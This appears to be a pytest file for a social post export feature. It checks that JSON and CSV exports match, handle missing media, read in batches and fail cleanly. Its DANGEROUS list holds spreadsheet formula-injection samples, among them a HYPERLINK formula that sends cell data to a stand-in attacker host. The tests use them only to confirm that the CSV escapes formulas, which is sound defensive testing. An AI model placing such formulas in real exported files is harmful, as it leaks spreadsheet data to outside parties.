"""A person's posts as files: read back, they say what was planned, and run nothing."""

import csv
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, insert, literal, select, true, update

from publisher.export import export
from storage.database import Database
from storage.export import BATCH_POSTS, Export, Owned
from storage.files import MediaFiles
from storage.models import Post, User
from storage.posts import Posts
from storage.sentences import sentence_of
from tests.scopes import ALL

ANNA, BEN = 7, 8
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r\n=1",
    "＝1",
)
HARMLESS = ('Say "hi", she said;\nsecond line, =not first', "Grüße 🌻", "")


@pytest.fixture
def planned_with(
    database: Database, files: MediaFiles, planned: Callable[..., Post]
) -> Callable[..., int]:
    """Plans a post with this caption and a picture that is there."""

    def plan(owner_id: int, caption: str) -> int:
        post = planned(owner_id)
        with files.incoming() as path:
            path.write_bytes(caption.encode() or b"none")
            name = files.keep(path, ".jpg")
        with database.transaction() as session:
            kept = session.get_one(Post, post.id)
            kept.caption, kept.media[0].original, kept.timezone = caption, name, "Asia/Tokyo"
            kept.scheduled_time = datetime(2026, 12, 24, 16, tzinfo=UTC)  # the 25th in Tokyo
        return post.id

    return plan


def test_both_files_say_the_same_and_no_cell_is_a_formula(
    database: Database,
    files: MediaFiles,
    planned_with: Callable[..., int],
    tmp_path: Path,
) -> None:
    captions = (*DANGEROUS, *HARMLESS)
    numbers = [planned_with(ANNA, caption) for caption in captions]
    planned_with(BEN, "Ben's")
    gone = planned_with(ANNA, "deleted")
    Posts(database).delete(gone, ALL)
    with database.transaction() as session:
        session.add(User(id=ANNA, name="=Anna"))
        unkept = update(Post).where(Post.id == numbers[0])
        session.execute(unkept.values(media_removed_at=func.now()))
        files.remove([session.get_one(Post, numbers[1]).media[0].original])
    folder = tmp_path / "export"
    written = export(Export(database).posts(ANNA), files, folder)
    assert (written.posts, written.media, written.incomplete) == (len(captions), 9, 2)
    told = json.loads((folder / "posts.json").read_text(encoding="utf-8"))
    assert [post["caption"] for post in told] == list(captions)
    assert [post["id"] for post in told] == numbers
    assert {post["owner"] for post in told} == {"=Anna"}
    with (folder / "posts.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for row, post in zip(rows, told, strict=True):
        assert row.keys() == post.keys()
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in row.values()
        )
        assert row["caption"].removeprefix("'") == post["caption"]
        assert row["planned_for"] == post["planned_for"] == "2026-12-25T01:00:00+09:00"
        assert row["media"].split() == post["media"]
    assert rows[-2]["caption"] == HARMLESS[1] and rows[-2]["hashtags"] == "#one"
    assert told[-2]["media"] == [f"post-{numbers[-2]}-2026-12-25-1.jpg"]
    assert (folder / "media" / told[-2]["media"][0]).read_text() == HARMLESS[1]
    assert (told[1]["media"], told[1]["media_kept"], told[-1]["media_kept"]) == ([], False, True)


def test_everybodys_are_read_batch_by_batch(
    database: Database, planned: Callable[..., Post]
) -> None:
    first = planned()
    columns = [c for c in Post.__table__.columns if c.name not in ("id", "owner_id")]
    copies = func.generate_series(1, BATCH_POSTS).alias("copies")
    of_ben = select(*columns, literal(BEN)).select_from(Post).join(copies, true())
    with database.transaction() as session:
        names = [*(column.name for column in columns), "owner_id"]
        session.execute(insert(Post).from_select(names, of_ben.where(Post.id == first.id)))
    assert len(list(Export(database).posts(None))) == BATCH_POSTS + 1
    assert len(list(Export(database).posts(BEN))) == BATCH_POSTS


def test_what_is_there_is_left_alone_and_what_fails_leaves_nothing(
    database: Database, files: MediaFiles, planned_with: Callable[..., int], tmp_path: Path
) -> None:
    planned_with(ANNA, "Hello")
    there = tmp_path / "export"
    there.mkdir()
    with pytest.raises(FileExistsError):
        export(Export(database).posts(ANNA), files, there)
    assert not list(there.iterdir())
    nothing = tmp_path / "nothing"
    assert export(Export(database).posts(999), files, nothing).posts == 0
    assert json.loads((nothing / "posts.json").read_text()) == []

    def broken() -> Iterator[Owned]:
        yield from Export(database).posts(ANNA)
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space") as refused:
        export(broken(), files, tmp_path / "full")
    assert sentence_of(refused.value).startswith(f"{tmp_path / 'full'} cannot be used")
    assert {path.name for path in tmp_path.iterdir()} == {"export", "nothing", "media"}
